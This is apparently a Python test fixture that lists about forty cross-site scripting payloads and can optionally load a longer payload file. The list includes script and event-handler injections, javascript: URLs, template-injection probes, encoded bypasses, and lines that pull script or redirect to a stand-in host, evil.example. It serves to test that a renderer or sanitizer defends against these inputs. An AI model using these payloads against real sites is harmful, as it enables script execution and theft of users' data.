"""Messages that try to become markup or script; thousands of kinds are made of these few tricks."""

from __future__ import annotations

import json
from pathlib import Path

#: A longer collection that stands beside the project on some machines.
MORE = Path(__file__).resolve().parents[3] / "shared" / "data" / "xss_payloads.jsonl"

OWN = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror='alert(1)'>",
    "<img src=x onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "</textarea><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</p></div></article><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1) tabindex=1>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>*{background:url(//evil.example/x)}</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=x autofocus onfocus=alert(1)></form>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "[1](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<javascript:alert(1)>",
    "**<b>**",
    "[1]<i>[1]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<\u0000script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<div data-feed='x' data-revision='99' data-first='99'><div data-pinned></div></div>",
    "<article class=turn data-turn=1 data-revision=99></article>",
    "<button data-opens='1\"] , *'>x</button>",
)


def payloads() -> list[str]:
    """Our own, and the longer collection where it is there."""
    if not MORE.exists():
        return list(OWN)
    lines = MORE.read_text(encoding="utf-8").splitlines()
    return [*OWN, *(json.loads(line)["text"] for line in lines)]
